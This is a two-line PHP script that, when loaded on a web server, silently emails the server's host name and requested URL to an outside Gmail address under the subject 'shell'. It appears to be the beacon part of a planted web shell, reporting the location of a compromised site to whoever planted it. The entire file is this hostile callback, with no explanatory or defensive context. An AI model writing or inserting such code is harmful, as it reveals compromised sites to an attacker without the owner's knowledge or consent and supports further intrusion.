<?php
mail('author@gmail.com', 'shell', $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);
